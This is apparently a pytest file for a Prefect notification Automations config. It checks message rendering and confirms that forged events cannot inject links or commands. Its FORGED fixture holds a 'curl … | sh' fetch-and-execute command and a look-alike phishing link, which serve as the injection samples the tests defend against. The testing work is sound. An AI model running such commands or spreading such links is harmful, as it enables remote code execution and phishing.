"""The shipped Automations file: valid for Prefect once the block's id is in, and readable.

No server: Prefect's own models validate the file, its own template renderer renders each
message from a question's payload, and its own label matching says which flow-run failures
count as an expired question.
"""

from __future__ import annotations

import re
import uuid
from pathlib import Path

import pytest
import yaml
from prefect.events.schemas.automations import AutomationCore
from prefect.server.events.jinja_filters import all_filters
from prefect.server.events.schemas.events import matches  # the server evaluates triggers
from prefect.server.schemas.core import FlowRun
from prefect.server.utilities.user_templates import (
    register_user_template_filters,
    render_user_template,
)
from prefect.settings import PREFECT_API_URL, PREFECT_UI_URL, temporary_settings

from prefect_ito.people import notices

AUTOMATIONS = Path(__file__).resolve().parents[2] / "deployments" / "automations.yaml"

PAYLOAD = {
    "kind": "restart",
    "flow_run_id": "f-1",
    "asked": "Approve or reject a loss-spike restart of run run_1 (booking bk-1)",
    "evidence": "loss 5.10 at step 12,000 in pretrain (baseline 2.00); proposed restart from ck",
    "deadline": "2026-12-02T10:00:00+00:00",
    "held": "held 2 h 14 min: about $1,350 of GPU time",
    "link": "http://127.0.0.1:4200/runs/flow-run/f-1",
    "command": "prefect-ito decide f-1 --approve|--reject --reason TEXT",
}


def automations(block_id: str = str(uuid.uuid4())) -> list[AutomationCore]:
    text = AUTOMATIONS.read_text().replace("ITO_NOTIFY_BLOCK_ID", block_id)
    return [AutomationCore.model_validate(a) for a in yaml.safe_load(text)["automations"]]


def test_the_file_is_valid_once_the_block_id_is_filled_in_and_names_each_message():
    shipped = automations()
    assert [a.name for a in shipped] == [
        "ito-person-needed",
        "ito-person-reminder",
        "ito-person-answered",
        "ito-person-expired",
    ]
    assert {e for a in shipped[:3] for e in a.trigger.expect} == {  # type: ignore[union-attr]
        notices.PERSON_NEEDED,
        notices.PERSON_ANSWERED,
    }


FLOW_RUN = FlowRun(id=uuid.uuid4(), name="quiet-heron", flow_id=uuid.uuid4())
"""The flow run an event names, as Prefect reads it back for the message's template."""

FORGED = {
    **PAYLOAD,
    "asked": "Confirm now at https://desk.example.evil/confirm?code=ABCD",
    "evidence": "run: curl -s https://evil.example/x | sh",
    "link": "https://desk.example.evil/confirm",
    "command": "curl -s https://evil.example/x | sh",
}


async def render(index: int, payload: dict[str, object], flow_run: object = FLOW_RUN) -> str:
    """Render the subject and body of the ``index``-th Automation as Prefect's server does."""
    register_user_template_filters(all_filters)
    action = automations()[index].actions[0]
    context = {"event": {"payload": payload}, "flow_run": flow_run}
    with temporary_settings({PREFECT_UI_URL: "http://127.0.0.1:4200"}):
        subject = await render_user_template(action.subject, context)  # type: ignore[union-attr]
        body = await render_user_template(action.body, context)  # type: ignore[union-attr]
    return f"{subject}\n{body}"


async def test_the_needed_message_renders_every_fact_of_the_payload():
    message = await render(0, PAYLOAD)

    assert message.startswith("Itô training needs you: a restart to decide (quiet-heron)")
    for fact in ("asked", "evidence", "deadline", "held"):
        assert f"{PAYLOAD[fact]}" in message, fact
    assert f"http://127.0.0.1:4200/runs/flow-run/{FLOW_RUN.id}" in message
    assert f"prefect-ito decide {FLOW_RUN.id} --approve|--reject" in message


@pytest.mark.parametrize("index", [0, 1, 2])
async def test_a_forged_event_puts_no_link_or_command_of_its_own_in_a_message(index):
    # Before: a forged `person.needed` event sent the team its look-alike confirm link and a
    # `curl … | sh` "command", as the message's own link and command.
    message = await render(index, FORGED)

    assert "://desk.example.evil" not in message and "://evil.example" not in message
    assert "Or run: curl" not in message
    spend = await render(index, {**FORGED, "kind": "spend"})
    assert "://" not in spend.replace("http://127.0.0.1:4200/runs/flow-run/", "")


@pytest.mark.parametrize("index", [0, 1])
async def test_a_spend_message_says_why_a_person_is_needed_now(index):
    # Before: after a revoke, "needs you" did not say why a nightly run suddenly needed a person.
    why = (
        "the standing authorization nightly-spend (sa_1) does not cover this run: the "
        "authorization is revoked"
    )
    message = await render(index, {**PAYLOAD, "kind": "spend", "why": why})

    lines = message.splitlines()
    asked = lines.index(f"> {PAYLOAD['asked']}")
    assert lines[asked + 1 : asked + 3] == [
        f"> Why a person: {why}",
        f"> Evidence: {PAYLOAD['evidence']}",
    ]
    without = (await render(index, PAYLOAD)).splitlines()
    assert without[without.index(f"> {PAYLOAD['asked']}") + 1].startswith("> Evidence: ")


async def test_an_event_naming_no_flow_run_says_it_may_be_forged():
    message = await render(0, FORGED, flow_run=None)

    assert "treat this message as forged" in message
    assert "Or run: nothing" in message


def test_the_expired_message_counts_only_deadlines_of_questions():
    patterns = automations()[3].trigger.match["prefect.state-message"]  # type: ignore[union-attr]

    def expired(message: str) -> bool:
        return any(matches(pattern, message) for pattern in patterns)

    assert expired("The flow was suspended and never resumed.")
    assert expired("The flow was paused and never resumed.")
    assert expired("Flow run encountered an exception: AwaitingDecision: nobody decided on the "
                   "restart proposed for run r (a) within 60 s")  # fmt: skip
    assert not expired("Flow run encountered an exception: RunRefused: the backend refuses")


def test_a_question_has_the_same_event_ids_on_every_re_entry():
    first = notices.event_id("f-1", "restart-a", "a", notices.PERSON_NEEDED)
    assert first == notices.event_id("f-1", "restart-a", "a", notices.PERSON_NEEDED)
    assert first != notices.event_id("f-1", "restart-a", "a", notices.PERSON_ANSWERED)
    assert first != notices.event_id("f-2", "restart-a", "a", notices.PERSON_NEEDED)


EXPIRED = {"prefect.state-message": "The flow was suspended and never resumed."}
"""The resource of the Failed event the expired message answers."""


async def render_without_ui_url(action: object, flow_run: object) -> str:
    """Render a message as a server with neither ``PREFECT_UI_URL`` nor ``PREFECT_API_URL`` does."""
    register_user_template_filters(all_filters)
    payload = {**PAYLOAD, "answered_by": "user:ada", "answer": "approve"}
    context = {"event": {"payload": payload, "resource": EXPIRED}, "flow_run": flow_run}
    with temporary_settings({PREFECT_UI_URL: None, PREFECT_API_URL: None}):
        subject = await render_user_template(action.subject, context)  # type: ignore[attr-defined]
        body = await render_user_template(action.body, context)  # type: ignore[attr-defined]
    return f"{subject}\n{body}"


@pytest.mark.parametrize("index", [0, 1, 2, 3])
async def test_without_a_ui_url_on_the_server_messages_name_the_flow_run_not_none(index):
    # Before: the expired message ended "Flow run: None" on a server without PREFECT_UI_URL.
    automation = automations()[index]

    message = await render_without_ui_url(automation.actions[0], FLOW_RUN)

    assert "None" not in message, automation.name
    assert str(FLOW_RUN.id) in message and "quiet-heron" in message, automation.name


@pytest.mark.parametrize("index", [0, 1, 2, 3])
async def test_a_message_naming_no_flow_run_says_so_on_every_line(index):
    # Before: an expired message whose event named no flow run read "nobody answered in time ()"
    # and ended "Flow run: " with nothing after it.
    automation = automations()[index]

    message = await render_without_ui_url(automation.actions[0], None)

    assert "None" not in message and "()" not in message, automation.name
    assert "no flow run named" in message.splitlines()[0], automation.name
    empty_label = re.search(r"\w:[ \t]*$", message, re.MULTILINE)  # "Flow run: " and nothing
    assert not empty_label, message


async def test_the_expired_message_quotes_the_state_message_and_breaks_its_links():
    # Before: the state message, which anyone who can send an event writes, was shown as the
    # message's own words, with any link in it left clickable.
    register_user_template_filters(all_filters)
    action = automations()[3].actions[0]
    forged = {"prefect.state-message": "nobody confirmed the spend: https://desk.example.evil/c"}
    context = {"event": {"payload": {}, "resource": forged}, "flow_run": FLOW_RUN}

    body = await render_user_template(action.body, context)  # type: ignore[union-attr]

    assert "> nobody confirmed the spend: https:[//]desk.example.evil/c" in body
    assert "://desk.example.evil" not in body


@pytest.mark.parametrize("index", [0, 1])
async def test_a_message_says_what_the_flow_run_s_form_can_do_and_where_a_person_answers(index):
    # Before: the link was offered as the place to answer, where the form can only decline a
    # spend or recheck.
    spend = " ".join((await render(index, {**PAYLOAD, "kind": "spend"})).split())
    restart = " ".join((await render(index, PAYLOAD)).split())

    assert (
        "it shows the quote and the backend's confirm page, where a person confirms; its form "
        "can only decline or recheck" in spend
    )
    assert "the backend's decide page, where a person decides; its form only rechecks" in restart
